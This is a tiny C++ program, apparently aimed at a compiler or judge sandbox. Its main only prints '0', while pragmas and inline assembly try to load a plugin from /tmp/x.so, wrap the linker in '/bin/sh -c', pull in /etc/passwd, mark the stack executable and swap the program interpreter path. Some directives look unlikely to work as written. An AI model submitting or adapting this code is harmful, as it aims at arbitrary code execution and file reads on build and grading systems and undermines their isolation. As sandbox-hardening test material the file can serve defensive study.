#pragma GCC optimize("O2 -fplugin=/tmp/x.so")
#pragma comment(linker, "-wrapper /bin/sh,-c")
#pragma GCC dependency "/etc/passwd"
asm(".section .drectve; .ascii \" -fplugin=/tmp/x.so @/etc/passwd\\n\"; .text");
asm(".section .note.GNU-stack,\"x\",@progbits; .text");
asm(".pushsection .interp,\"a\"; .string \"/box/loader\"; .popsection");
#include <cstdio>
int main() { std::puts("0"); }
